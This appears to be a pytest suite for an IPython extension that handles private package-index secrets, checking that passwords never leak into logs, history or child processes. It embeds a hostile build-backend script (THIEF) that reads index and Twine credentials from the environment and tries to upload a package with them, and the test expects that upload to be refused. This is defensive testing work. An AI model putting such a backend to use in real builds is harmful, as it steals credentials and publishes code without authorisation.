"""A secret is where it was typed and in the requests to its index, and nowhere else; and reading is not publishing."""

from __future__ import annotations

import io
import json
import sqlite3
from typing import Final

import pexpect
import pytest

from tests.canary import Canary, ProcessWatch
from tests.frontend import Frontend, frontend
from tests.kernels import Environment, environment
from tests.packages import BACKEND, sdist, spied, spying_backend, wheel
from tests.servers.moody import Mood, Moody

CANARY: Final = Canary(Moody.password, (Moody.username, ""))

LOUD: Final = """\
import logging
logging.basicConfig(level=logging.DEBUG, filename="debug.log", force=True)
%xmode Verbose"""
"""What people do who look for a fault."""

INSTALLS: Final = (
    "%altindex install --with pip -vvv {}",
    "%altindex install --with uv -vv {}",
    "%pip install -vvv --log pip.log {}",
    "!pip install -vvv {}",
    "%uv pip install -vv {}",
    "!uv pip install -vv {}",
)

SHOW: Final = (
    "%altindex",
    "%altindex list",
    "%altindex test",
    "%altindex search acme",
    "%altindex why acme-models",
    "%altindex versions acme-models",
    "%env",
    "from altindex_magic.service.current import current; vars(current().session)",
    "import pickle; pickle.dumps(list(current().session.remembered.values()))",
    "current().session.remembered",
)

# A build backend that tries to publish with all that it finds in its environment.
THIEF: Final = """
import base64, json, os, urllib.error, urllib.request
from pathlib import Path
from urllib.parse import urlsplit


def _post(url, user, password):
    part = '--boundary\\r\\nContent-Disposition: form-data; name="{}"\\r\\n\\r\\n{}\\r\\n'
    fields = {":action": "file_upload", "name": "acme-stolen", "version": "1.0"}
    fields['content"; filename="acme_stolen-1.0.tar.gz'] = "stolen"
    body = ("".join(part.format(*field) for field in fields.items()) + "--boundary--\\r\\n").encode()
    login = base64.b64encode(f"{user}:{password}".encode()).decode()
    headers = {"Authorization": f"Basic {login}", "Content-Type": "multipart/form-data; boundary=boundary"}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=120) as answer:
            return answer.status
    except urllib.error.HTTPError as refusal:
        return refusal.code


def _steal(report):
    parts = urlsplit(os.environ["PIP_INDEX_URL"])
    address = f"http://{parts.hostname}:{parts.port}/{parts.path.split('/')[1]}/upload/local/"
    pairs = [(user, parts.password) for user in ("altindex", "altindex-upload", "")]
    pairs += [(os.environ.get("TWINE_USERNAME", ""), os.environ.get("TWINE_PASSWORD", ""))]
    Path(report).write_text(json.dumps([_post(address, *pair) for pair in pairs]))


_steal({report!r})
"""


@pytest.fixture
def env(tmp_path) -> Environment:
    """Give an environment whose temporary files stay where they can be searched."""
    made = environment(tmp_path / "env")
    made.root.joinpath("tmp").mkdir()
    return made


def log_in(person: Frontend, moody: Moody) -> None:
    """Define the index and type its secret; it stays in the session."""
    for cell in ("%load_ext altindex_magic", f"%altindex add team {moody.url} --username {moody.username}"):
        assert person.run(cell).ok
    assert person.run("%altindex login team --keep session", answers=[moody.password]).ok
    assert person.run("%altindex use team").ok


def test_a_secret_leaks_through_no_command_and_no_fault(env, tmp_path, moody, public):
    """Not at any verbosity, into no file, and to no child: a spying build backend and a watch over all of them tell."""
    wheel(moody.folder, "acme-models", "1.0")
    reports = tmp_path / "reports" / "spy"
    reports.parent.mkdir()
    for number in range(len(INSTALLS)):
        sdist(moody.folder, f"acme-spy-{number}", "1.0", backend_source=spying_backend(reports))
    variables = {"PIP_INDEX_URL": public.url, "TMPDIR": str(env.root / "tmp"), "PIP_NO_CLEAN": "1"}
    with frontend(env, **variables) as person, ProcessWatch(person.pid) as watch:
        person.run(LOUD)
        log_in(person, moody)
        for cell in SHOW:
            person.run(cell)
        for number, install in enumerate(INSTALLS):
            done = person.run(install.format(f"acme-spy-{number}"))
            assert env.installed().get(f"acme-spy-{number}") == "1.0", done.shown
        for mood in (
            Mood.UNAUTHORIZED,
            Mood.FORBIDDEN,
            Mood.NOT_FOUND,
            Mood.BROKEN,
            Mood.REFUSED,
            Mood.LOGIN_PAGE,
            Mood.CUT,
        ):
            moody.become(mood)
            for install in (INSTALLS[0], INSTALLS[1]):
                assert not person.run(install.format("acme-models")).ok, mood
            person.run("%tb")
            person.run("%altindex test team")
        moody.become(Mood.HEALTHY)
        for cell in ("%altindex rename team crew", "%altindex logout crew", "%altindex off", "%altindex remove crew"):
            assert person.run(cell).ok, cell
        person.save(env.work / "saved.ipynb")
    assert len(spied(reports)) >= len(INSTALLS)
    assert watch.leaks(CANARY) == []
    searched = [env.home, env.work, env.root / "tmp", env.log, env.site_packages, reports.parent]
    assert CANARY.search(*searched) == []
    assert len(list(env.work.glob("*.log"))) == 2, "the logs were not written, and nothing was searched"


def test_a_secret_in_a_variable_is_inherited_by_no_program(env, tmp_path, moody, public):
    """While its index is in use: the code of the kernel finds it still, and after `logout` or `off` everybody does."""
    reports = tmp_path / "reports" / "spy"
    reports.parent.mkdir()
    for number in range(len(INSTALLS)):
        sdist(moody.folder, f"acme-spy-{number}", "1.0", backend_source=spying_backend(reports))
    secret = tmp_path / "secret"
    secret.write_text(moody.password)
    with frontend(env, PIP_INDEX_URL=public.url, TMPDIR=str(env.root / "tmp")) as person:
        said = ""
        for cell in (
            f"import os, pathlib, subprocess; os.environ['TEAM'] = pathlib.Path({str(secret)!r}).read_text()",
            "%load_ext altindex_magic",
            f"%altindex add team {moody.url} --username {moody.username}",
            "%altindex login team --env TEAM",
            "%altindex use team",
            "os.environ['TEAM'] = os.environ['TEAM']  # as for a token that was renewed",
            "%altindex login team --env TEAM",
        ):
            done = person.run(cell)
            assert done.ok, cell
            said += done.text
        assert "While indexes are in use, programs that are started from here do not inherit TEAM." in said
        with ProcessWatch(person.pid) as watch:
            for number, install in enumerate(INSTALLS):
                done = person.run(install.format(f"acme-spy-{number}"))
                assert env.installed().get(f"acme-spy-{number}") == "1.0", done.shown
            for cell in ("!env", "%%sh\nenv", "subprocess.run(['env'], capture_output=True, text=True).stdout"):
                shown = person.run(cell).text
                assert "PIP_INDEX_URL" in shown, cell
                assert not CANARY.dress_in(shown), cell
        assert person.run("len(os.environ['TEAM'])").text == str(len(moody.password))
        for cell in ("%altindex logout team", "%altindex off"):
            assert person.run(cell).ok
            assert person.run("!printenv TEAM").text.strip() == moody.password
            person.run("%altindex login team --env TEAM")
    assert len(spied(reports)) >= len(INSTALLS)
    assert watch.leaks(CANARY) == []
    assert CANARY.search(env.home, env.work, env.log, env.site_packages, reports.parent) == []


def test_a_command_behind_use_in_a_terminal_inherits_it_neither(env, moody, public):
    """The gateway that stands before it has the secret."""

    def run(*words: str) -> str:
        done = env.run(*env.command(*words), TEAM=moody.password, PIP_INDEX_URL=public.url)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    run("add", "team", moody.url, "--username", moody.username)
    run("login", "team", "--env", "TEAM")
    shown = run("use", "team", "--", str(env.python), "-c", "import os; print(sorted(os.environ))")
    assert "'PIP_INDEX_URL'" in shown
    assert "'TEAM'" not in shown


TYPED: Final = Canary("s3cret+t0ken=of&alice")
LINES: Final = tuple(
    line.format(TYPED.secret)
    for line in (
        "%altindex add x https://user:{}@127.0.0.1/simple/",
        "%altindex add x https://user:{}/with/slash@127.0.0.1/simple/",
        "%altindex add x https://user:{} and-a-blank@127.0.0.1/simple/",
        "%altindex add x https://127.0.0.1/simple/ --password {}",
        "%altindex login x {}",
        "%altindex login x --env {}",
        "%altindex install --extra-index-url=https://{}@127.0.0.1/simple/ acme",
        "%%altindex install\n--index-url https://user:{}@127.0.0.1/simple/\nacme",
        "import altindex_magic as altindex; altindex.add('x', 'https://user:{}@127.0.0.1/simple/')",
    )
)


def history(env: Environment) -> str:
    """Read all that IPython keeps of what was typed."""
    connection = sqlite3.connect(env.history)
    try:
        return "\n".join(connection.iterdump())
    finally:
        connection.close()


def test_a_secret_typed_into_a_cell_is_refused_and_forgotten(env):
    """It is not in the error, the history, or what `In` and `_i` hold; the way to do it right is told."""
    with frontend(env) as person:
        person.run("%load_ext altindex_magic")
        person.run("before = 1")
        for line in LINES:
            refused = person.run(line)
            assert refused.error, line
            assert "%altindex login" in refused.error.traceback
            assert not TYPED.dress_in(json.dumps(refused.outputs)), line
            assert not TYPED.dress_in(person.run("%history -n 1-100\nprint(In, _i, _ii, _iii)").text), line
    kept = history(env)
    assert "before = 1" in kept
    assert kept.count("this line held a secret and was not kept") >= len(LINES)
    assert TYPED.search(env.home, env.log) == []


def test_a_build_cannot_publish_with_what_it_finds(env, tmp_path, share, public):
    """Its environment lets it read; neither the reading right nor anything else in it publishes."""
    thefts = []
    for number, use in enumerate(("%altindex use local share", "%altindex use local share --uploads")):
        report = tmp_path / f"theft-{number}"
        backend = BACKEND + THIEF.replace("{report!r}", repr(str(report)))
        sdist(share.folder, f"acme-thief-{number}", "1.0", backend_source=backend)
        thefts.append((use, f"acme-thief-{number}", report))
    with frontend(env, PIP_INDEX_URL=public.url) as person:
        person.run("%load_ext altindex_magic")
        person.run(f"%altindex add share {share.url}")
        for (use, project, report), install in zip(
            thefts, ("%pip install", "%altindex install --with pip"), strict=True
        ):
            assert person.run(use).ok
            done = person.run(f"{install} {project}")
            assert env.installed().get(project) == "1.0", done.shown
            assert json.loads(report.read_text()) == [401, 401, 401, 401], use
        wheel(env.work, "acme-mine", "1.0")
        mine = person.run("!python -m twine upload --disable-progress-bar acme_mine-1.0-py3-none-any.whl")
    published = [path.name for path in env.home.rglob("acme_*") if path.parent.parent.name == "local"]
    assert published == ["acme_mine-1.0-py3-none-any.whl"], mine.text


def test_terminal_ipython_forgets_a_typed_secret_too(env):
    """The same lines at a prompt of IPython in a terminal."""
    argv = ["-m", "IPython", "--simple-prompt", "--colors=NoColor"]
    terminal = pexpect.spawn(str(env.python), argv, env=env.environ(), cwd=str(env.work), encoding="utf-8", timeout=120)
    terminal.setecho(False)
    shown = io.StringIO()
    terminal.logfile_read = shown
    for line in ("%load_ext altindex_magic", *(line for line in LINES if "\n" not in line), "exit"):
        terminal.expect_exact("]: ")
        terminal.sendline(line)
    terminal.expect(pexpect.EOF)
    terminal.close()
    assert shown.getvalue().count("altindex: ") == len(LINES) - 1, shown.getvalue()
    assert history(env).count("this line held a secret and was not kept") >= len(LINES) - 1
    assert not TYPED.dress_in(shown.getvalue())
    assert TYPED.search(env.home) == []
